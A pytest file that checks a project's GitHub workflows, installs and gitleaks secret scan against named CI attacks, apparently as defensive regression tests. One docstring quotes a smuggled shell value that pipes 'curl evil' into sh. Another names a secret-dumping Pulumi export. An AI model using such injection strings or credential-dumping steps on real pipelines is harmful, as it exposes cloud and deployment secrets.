"""Attacks on CI and on the secret scan (issue 9, items 8 and 9): one test per attack, named after it.

The workflows cannot run here; they are read as GitHub reads them (``tests/ci_workflows.py``) and judged by an
outside checker where one exists (zizmor offline). The scan's attacks plant obviously fake values, generated in
the test, in a throwaway git repository and let gitleaks judge with the committed ``.gitleaks.toml``.
"""

from __future__ import annotations

import json
import re
import secrets
import shutil
import subprocess
from pathlib import Path

import pytest

from platform_secrets.cli.app import main as cli_main
from tests import ci_workflows as ci

ZIZMOR = ci.ROOT / ".venv" / "bin" / "zizmor"


def test_pull_request_branch_decrypts_prod() -> None:
    """Attack: open a pull request from a branch of this repository; its code (``__main__.py``, the Makefile,
    the workflow itself) runs in a job that holds prod's Pulumi token and deploy-environment variables, so
    ``pulumi preview`` decrypts prod's config and the branch can print every prod secret."""
    exposed = [
        f"{r.workflow}:{r.job} environments={sorted(r.environments)} stacks={sorted(r.stacks)}"
        for r in ci.reaches()
        if r.triggers & ci.UNREVIEWED_TRIGGERS and r.reaches_prod()
    ]
    assert exposed == [], "jobs of a pull request reach prod:\n" + "\n".join(exposed)


def test_dispatch_from_a_feature_branch_reaches_prod() -> None:
    """Attack: push a branch and start a workflow on it by hand (``workflow_dispatch`` runs the chosen branch's
    code) or by any trigger other than a push to main; a prod job then runs unreviewed code with prod's
    credentials. Every job that reaches prod must be started only from main and say so in its ``if:``."""
    loose = []
    for reach in ci.reaches():
        if not reach.reaches_prod():
            continue
        allowed = {"push", "workflow_dispatch", "schedule"}
        only_main = any("github.ref == 'refs/heads/main'" in c for c in reach.conditions)
        if not reach.triggers <= allowed or not only_main:
            loose.append(f"{reach.workflow}:{reach.job} triggers={sorted(reach.triggers)}")
    assert loose == [], "prod jobs not restricted to main:\n" + "\n".join(loose)
    deploy = ci.triggers(ci.workflows()["deploy.yml"])
    assert deploy["push"]["branches"] == ["main"]


def test_one_stack_token_opens_every_stack() -> None:
    """Attack: a job given an organization-wide Pulumi token (``access_token:organization``) for a dev preview
    can also read prod's state and decrypt prod's config. The token a job requests must be a team token whose
    team the environment names (a team with access to that one stack), never an organization token."""
    job = ci.load(ci.WORKFLOW_DIR / "pulumi-stack.yml")["jobs"]["pulumi"]
    auth = [s for s in job["steps"] if str(s.get("uses", "")).startswith("pulumi/auth-actions@")]
    assert auth, "the Pulumi Cloud login step"
    for step in auth:
        with_ = step["with"]
        assert with_["requested-token-type"] == "urn:pulumi:token-type:access_token:team", with_
        assert with_["scope"] == "team:${{ vars.PULUMI_TEAM }}", with_
    every = "\n".join(p.read_text() for p in ci.GITHUB.rglob("*.yml"))
    assert "access_token:organization" not in every


def zizmor(github: Path) -> list[tuple[str, str]]:
    """zizmor's offline findings over a ``.github`` folder, pedantic persona: (audit, file) pairs."""
    result = subprocess.run(
        [
            str(ZIZMOR),
            "--offline",
            "--persona=pedantic",
            "--format",
            "json",
            "--no-progress",
            str(github),
        ],
        capture_output=True,
        text=True,
        cwd=github.parent,
    )
    assert result.returncode in (0, 10, 11, 12, 13, 14), result.stderr
    return sorted(
        (f["ident"], loc["symbolic"]["key"]["Local"]["verbatim_path"])
        for f in json.loads(result.stdout)
        for loc in f["locations"][-1:]
    )


def test_workflow_input_injects_shell() -> None:
    """Attack: a caller passes ``stack: 'x"; curl evil | sh; "'`` (or an environment name with ``$(...)``);
    expanded by ``${{ }}`` inside a ``run:`` script it becomes shell code in a job holding cloud credentials.
    And (issue 16, item 2) an action's tag re-pointed at new code runs it with the job's role. zizmor
    (offline) judges every such pattern: it must report nothing at all, ``unpinned-uses`` included."""
    assert zizmor(ci.GITHUB) == []


def test_control_zizmor_sees_an_action_pinned_by_its_tag(tmp_path: Path) -> None:
    shutil.copytree(ci.GITHUB, tmp_path / ".github")
    audit = tmp_path / ".github" / "workflows" / "audit.yml"
    text = audit.read_text()
    moved = re.sub(r"actions/checkout@[0-9a-f]{40} # v[\d.]+", "actions/checkout@v6", text)
    assert moved != text
    audit.write_text(moved)
    assert ("unpinned-uses", ".github/workflows/audit.yml") in [
        (ident, str(Path(path).relative_to(tmp_path)) if Path(path).is_absolute() else path)
        for ident, path in zizmor(tmp_path / ".github")
    ]


INSTALLERS = re.compile(r"(pip3?|uv pip) (install|sync)\b")


def unlocked_installs(texts: dict[str, str]) -> list[str]:
    """Each install command (pip or uv, line continuations joined) that is not hash-checked from a lock."""
    found = []
    for name, text in texts.items():
        for command in re.sub(r"\s*\\\n\s*", " ", text).splitlines():
            if not INSTALLERS.search(command) or command.lstrip().startswith("#"):
                continue
            if re.search(r"--no-deps --no-build-isolation -e \.$", command.strip()):
                continue  # the checkout itself, editable: nothing is fetched from a registry
            files = re.findall(r"(?:-r\s+|\s)(\S*requirements[\w.-]*|\"\$file\")", command)
            hashed = "--require-hashes" in command
            locked = files and all(
                f.endswith(".lock")
                or f in ("requirements-scan.txt", "requirements-uv.txt", '"$file"')
                for f in (Path(f).name if "/" in f and not f.startswith('"') else f for f in files)
            )
            if not (hashed and locked):
                found.append(f"{name}: {command.strip()}")
    return found


def _install_texts() -> dict[str, str]:
    paths = [ci.ROOT / "Makefile", ci.ROOT / ".ci" / "run", *sorted(ci.GITHUB.rglob("*.yml"))]
    return {str(p.relative_to(ci.ROOT)): p.read_text() for p in paths}


def test_a_compromised_release_is_installed_by_an_unlocked_install() -> None:
    """Attack (issue 16, item 2): publish a new release of any dependency within our ranges (or of the policy
    pack's); every job that installs from a range takes it, prod deploy included. Every install in make,
    .ci/run and the workflows must be hash-checked, from a lock file."""
    assert unlocked_installs(_install_texts()) == []


def test_control_an_install_from_ranges_is_seen() -> None:
    texts = {"x.yml": "      run: |\n        pip install --quiet -r policy/requirements.txt\n"}
    assert unlocked_installs(texts) == ["x.yml: pip install --quiet -r policy/requirements.txt"]
    texts = {"Makefile": "\t$(UV) pip sync --python $(PY) \\\n\t\trequirements-dev.lock\n"}
    assert unlocked_installs(texts) == [
        "Makefile: $(UV) pip sync --python $(PY) requirements-dev.lock"
    ]


@pytest.mark.parametrize(
    "path", sorted((ci.GITHUB / "workflows").glob("*.yml")), ids=lambda p: p.name
)
def test_expression_in_run_script(path: Path) -> None:
    """Attack: the same injection through any ``${{ }}`` inside a ``run:`` block, including contexts zizmor
    trusts today (``inputs``, ``matrix``): values reach a script only through ``env:``."""
    data = ci.load(path)
    scripts = [
        str(step.get("run", "")) for job in data["jobs"].values() for step in job.get("steps", [])
    ]
    assert [s for s in scripts if re.search(r"\$\{\{", s)] == []


def test_control_a_pull_request_job_given_prod_is_seen(tmp_path: Path) -> None:
    """Control for the two tests above: the same reading flags a pull-request workflow widened back to a
    prod preview (a matrix over dev and prod), so a passing attack test means the workflows, not the reader."""
    for path in ci.WORKFLOW_DIR.glob("*.yml"):
        (tmp_path / path.name).write_text(path.read_text())
    pr = tmp_path / "pull-request.yml"
    marker = "  secret-scan:\n"
    assert marker in pr.read_text()
    pr.write_text(
        pr.read_text().replace(
            marker,
            "  preview:\n    uses: ./.github/workflows/pulumi-stack.yml\n    with:\n"
            "      stack: ${{ matrix.stack }}\n      command: preview\n"
            "      environment: preview-${{ matrix.stack }}\n"
            "    strategy:\n      matrix:\n        stack: [dev, prod]\n" + marker,
        )
    )
    exposed = {
        (r.job, tuple(sorted(r.environments)))
        for r in ci.reaches(tmp_path)
        if r.triggers & ci.UNREVIEWED_TRIGGERS and r.reaches_prod()
    }
    assert exposed == {("preview", ("preview-prod",))}


def _scan_repo(tmp_path: Path) -> Path:
    """A throwaway repository with this project's .gitignore and gitleaks config and a fresh baseline."""
    from platform_secrets.ci import secret_scan as scan_secrets

    def git(*args: str) -> None:
        subprocess.run(["git", *args], cwd=tmp_path, check=True, capture_output=True)

    git("init", "-q", "-b", "main")
    git("config", "user.email", "ci@example.invalid")
    git("config", "user.name", "ci")
    for name in (".gitignore", ".gitleaks.toml"):
        if (ci.ROOT / name).exists():
            (tmp_path / name).write_text((ci.ROOT / name).read_text())
    (tmp_path / "app.py").write_text('TOKEN_ENV = "JWT_SECRET"\n')
    scan_secrets.update_baseline(tmp_path)
    git("add", "-A")
    git("commit", "-q", "-m", "clean")
    return tmp_path


def test_linear_key_committed_then_removed_goes_unseen(tmp_path: Path) -> None:
    """Attack (or accident): commit a Linear key, delete it in the next commit, push both. The key is in the
    history for good (and must be rotated); `make scan` must find it without being told where to look."""

    repo = _scan_repo(tmp_path)
    key = "lin_" + "api_" + secrets.token_hex(20)
    (repo / "notes.txt").write_text(key + "\n")
    subprocess.run(["git", "add", "notes.txt"], cwd=repo, check=True)
    subprocess.run(["git", "commit", "-q", "-m", "oops"], cwd=repo, check=True)
    (repo / "notes.txt").write_text("\n")
    subprocess.run(["git", "commit", "-q", "-am", "remove it"], cwd=repo, check=True)
    assert cli_main(["scan", "--root", str(repo)]) == 1


def test_redis_password_url_goes_unseen(tmp_path: Path) -> None:
    """Attack (or accident): paste the prod REDIS_URL, the guide's `rediss://:<password>@host`, into a file.
    detect-secrets' basic-auth rule wants a user name before the colon, so it lets this shape through."""

    repo = _scan_repo(tmp_path)
    password = secrets.token_urlsafe(12)
    (repo / "deploy-notes.md").write_text(
        f"REDIS_URL=rediss://:{password}@redis.prod.internal:6379/0\n"
    )
    assert cli_main(["scan", "--root", str(repo)]) == 1


def test_guides_scanner_is_red_on_day_one() -> None:
    """Not an attack but the failure that makes a team switch the scanner off: gitleaks, as the guide asks, run
    on this repository's whole history with the committed config, must report 0 findings (it reported 22 false
    positives: detect-secrets' hashes, Azure role ids)."""
    from platform_secrets.ci import secret_scan as scan_secrets

    config = ci.ROOT / ".gitleaks.toml"
    command = [
        scan_secrets.gitleaks_binary()
        if hasattr(scan_secrets, "gitleaks_binary")
        else str(ci.ROOT / ".venv" / "bin" / "gitleaks"),
        "git",
        "--no-banner",
        "--redact",
        "--log-opts=HEAD",
    ]
    if config.exists():
        command += ["--config", str(config)]
    result = subprocess.run([*command, "."], cwd=ci.ROOT, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr.strip().splitlines()[-1:]


# Issue 16, items 2, 3 and 10: what a pull request's unreviewed code can hold, and who writes its summary.


def _steps(workflow: str, job: str) -> list[dict]:
    return ci.workflows()[workflow]["jobs"][job].get("steps", [])


def credentialed(directory: Path = ci.WORKFLOW_DIR) -> list[str]:
    """Every job a pull request starts (directly or through a called workflow) that can obtain a credential:
    an OIDC token (``id-token: write``, the door to a cloud role and a Pulumi token), a stored secret, a
    GitHub environment (its variables name the roles), or a write-scoped ``GITHUB_TOKEN``."""
    found = []
    for name, workflow in ci.workflows(directory).items():
        if not set(ci.triggers(workflow)) & ci.UNREVIEWED_TRIGGERS:
            continue
        top = workflow.get("permissions")
        for job_name, job in workflow["jobs"].items():
            own = job.get("permissions", top)
            text = json.dumps(job)
            if own is None:
                why = ["no permissions: the repository's default token, possibly write"]
            elif isinstance(own, str):
                why = [] if own == "read-all" else [f"permissions: {own}"]
            else:
                why = [f"{k}: {v}" for k, v in own.items() if v == "write"]
            if "environment" in job:
                why.append(f"environment {job['environment']}")
            if re.search(r"\$\{\{\s*secrets\.", text) or job.get("secrets"):
                why.append("a stored secret")
            if str(job.get("uses", "")).startswith("./.github/workflows/"):
                why.append(f"calls {job['uses']}")
            if why:
                found.append(f"{name}:{job_name}: {', '.join(why)}")
    return found


def test_pull_request_branch_decrypts_dev_with_a_pulumi_token() -> None:
    """Attack (issue 16, item 3): open a pull request from a branch of this repository whose Makefile runs
    ``pulumi stack export --show-secrets``: the dev preview job held a Pulumi team token (Stack Read includes
    decrypt) and a dev role. No job a pull request starts may hold any credential."""
    assert credentialed() == []


def test_control_a_pull_request_job_with_an_oidc_token_is_seen(tmp_path: Path) -> None:
    for path in ci.WORKFLOW_DIR.glob("*.yml"):
        (tmp_path / path.name).write_text(path.read_text())
    pr = tmp_path / "pull-request.yml"
    text = pr.read_text()
    marker = "  secret-scan:\n"
    assert marker in text
    pr.write_text(
        text.replace(
            marker,
            "  sneaky:\n    runs-on: ubuntu-latest\n    permissions:\n      id-token: write\n"
            "    steps:\n      - run: make test\n" + marker,
        )
    )
    assert credentialed(tmp_path) == ["pull-request.yml:sneaky: id-token: write"]
    pr.write_text(
        text.replace(
            marker,
            "  sneaky:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n"
            "        env:\n          TOKEN: ${{ secrets.PULUMI_TOKEN }}\n" + marker,
        )
    )
    assert credentialed(tmp_path) == ["pull-request.yml:sneaky: a stored secret"]


def test_pull_request_rewrites_its_own_access_diff() -> None:
    """Attack (issue 16, item 10): a branch edits platform_secrets/access/diff.py (or the plan, or the setup action) so
    that its summary says "no access change" while it adds a reader. The job that writes the summary must run
    the base branch's tools (the workspace is the base commit) and read the head only as data: checked out
    into a folder of its own, without a token, never executed, planned through ``--project-dir``."""
    steps = _steps("pull-request.yml", "offline-plan")
    checkouts = [s for s in steps if str(s.get("uses", "")).startswith("actions/checkout@")]
    workspace = [s for s in checkouts if "path" not in (s.get("with") or {})]
    head = [s for s in checkouts if (s.get("with") or {}).get("path")]
    assert [s["with"].get("ref") for s in workspace] == [
        "${{ github.event.pull_request.base.sha }}"
    ], "the workspace (tools, setup action) is the base commit"
    assert [s["with"].get("ref") for s in head] == ["${{ github.event.pull_request.head.sha }}"]
    assert all(s["with"]["persist-credentials"] is False for s in checkouts)
    data = head[0]["with"]["path"]
    runs = [str(s.get("run", "")) for s in steps]
    uses = [str(s.get("uses", "")) for s in steps]
    assert not [u for u in uses if data in u], "no action of the head is used"
    heads_code = re.compile(
        rf"(cd\s+\"?{re.escape(data)}|{re.escape(data)}/[\w./-]*\.(py|sh)\b|{re.escape(data)}/\.venv"
        rf"|{re.escape(data)}/Makefile|make\s+-C\s+{re.escape(data)}|git worktree)"
    )
    assert [r for r in runs if heads_code.search(r)] == [], "no step runs the head's code"
    plans = [r for r in runs if "platform-secrets plan" in r]
    assert plans and all("--project-dir" in r for r in plans if "plan-head" in r), plans


def test_the_base_tools_plan_the_heads_files_without_running_its_code(
    tmp_path: Path, aws_dev_plan_dir: Path
) -> None:
    """The same attack, run: the head's folder carries a ``__main__.py`` and a ``platform_secrets/offline/plan.py`` that would
    leave a mark, and a catalog that drops backend's OTP_PEPPER. Planned with ``--project-dir``, the access
    change is reported and neither file of the head ran."""
    import yaml

    head = tmp_path / "head"
    (head / "tools").mkdir(parents=True)
    for name in ("Pulumi.yaml", "Pulumi.dev.yaml"):
        (head / name).write_text((ci.ROOT / name).read_text())
    catalog = yaml.safe_load((ci.ROOT / "catalog.yaml").read_text())
    del catalog["services"]["backend"]["secrets"]["OTP_PEPPER"]
    (head / "catalog.yaml").write_text(yaml.safe_dump(catalog))
    mark = tmp_path / "head-code-ran"
    evil = f"open({str(mark)!r}, 'w').write('ran')\n"
    (head / "__main__.py").write_text(evil)
    (head / "tools" / "__init__.py").write_text(evil)
    (head / "tools" / "plan.py").write_text(evil)
    out = tmp_path / "plan-head-dev"
    code = cli_main(
        ["plan", "--stack", "dev", "--project-dir", str(head), "--out", str(out),
         "--diff-against", str(aws_dev_plan_dir)]
    )  # fmt: skip
    assert code == 0
    assert not mark.exists(), "the head's code ran"
    diff = (out / "access-diff.md").read_text()
    assert "OTP_PEPPER" in diff


def test_a_head_catalog_outside_its_folder_is_refused(tmp_path: Path, capsys) -> None:

    head = tmp_path / "head"
    head.mkdir()
    (head / "Pulumi.yaml").write_text(
        (ci.ROOT / "Pulumi.yaml").read_text().replace("default: catalog.yaml", "default: ../x.yaml")
    )
    (head / "Pulumi.dev.yaml").write_text((ci.ROOT / "Pulumi.dev.yaml").read_text())
    assert cli_main(["plan", "--stack", "dev", "--project-dir", str(head)]) == 1
    assert "lies outside the project directory" in capsys.readouterr().err


def _stack_project(tmp_path: Path, stack: str, environment: str) -> Path:
    """A checkout holding one shard ``stack`` of environments/<environment>.yaml, and a ``.venv/bin/python``
    that runs this repository's code."""
    import os
    import sys

    root = tmp_path / "checkout"
    (root / "environments").mkdir(parents=True)
    (root / "environments" / "live.yaml").write_text(
        f"foundation: live-foundation\nstacks:\n  {stack}: [backend]\n"
    )
    (root / f"Pulumi.{stack}.yaml").write_text(
        "config:\n  platform-secrets:environmentFile: environments/live.yaml\n"
        f"  platform-secrets:environment: {environment}\n"
    )
    python = root / ".venv" / "bin" / "python"
    python.parent.mkdir(parents=True)
    python.write_text(f'#!/bin/sh\nPYTHONPATH={ci.ROOT} exec {sys.executable} "$@"\n')
    python.chmod(0o755)
    assert os.access(python, os.X_OK)
    return root


def _gate(root: Path, stack: str, environment: str, ref: str, event: str, command: str = "up"):
    job = ci.load(ci.WORKFLOW_DIR / "pulumi-stack.yml")["jobs"]["pulumi"]
    env = {
        "STACK": stack,
        "COMMAND": command,
        "ENVIRONMENT": environment,
        "GITHUB_REF": ref,
        "GITHUB_EVENT_NAME": event,
        "GITHUB_OUTPUT": str(root / "github-output"),
        "GITHUB_STEP_SUMMARY": str(root / "summary.md"),
        "AWS_ROLE_ARN": "",
    }
    return ci.run_scripts(job, env, root, until="platform_secrets.ci.stack_info")


def test_a_prod_shard_dispatched_from_a_feature_branch_deploys(tmp_path: Path) -> None:
    """Attack (issue 19): a prod environment split into shards ``prod-a``, ``prod-b``: dispatch the deploy of
    ``prod-a`` from a feature branch. A gate that knows stacks by name (``dev|prod``, ``[ "$STACK" = prod ]``)
    either refuses every shard or lets ``prod-a`` through as "not prod". The gate refuses it for its ref, and
    lets the same shard run from main under its own GitHub environment."""
    root = _stack_project(tmp_path, "prod-a", "prod")
    rc, out = _gate(root, "prod-a", "prod-a", "refs/heads/feature", "workflow_dispatch")
    assert rc == 1 and "refused on refs/heads/feature (workflow_dispatch)" in out, out
    rc, out = _gate(root, "prod-a", "prod-a", "refs/heads/main", "push")
    assert rc == 0, out
    assert '"environment": "prod"' in out and '"role": "shard"' in out


def test_a_prod_shard_whose_name_says_dev_is_judged_by_its_environment(tmp_path: Path) -> None:
    """Attack: name a prod shard ``dev-payments`` and run it under the unprotected ``dev`` GitHub environment.
    The stack's files say prod; its own GitHub environment is required (the other mismatches:
    ``tests/ci/test_stack_info.py``)."""
    root = _stack_project(tmp_path, "dev-payments", "prod")
    rc, out = _gate(root, "dev-payments", "dev", "refs/heads/main", "push")
    assert rc == 1 and "its own is 'dev-payments'" in out, out
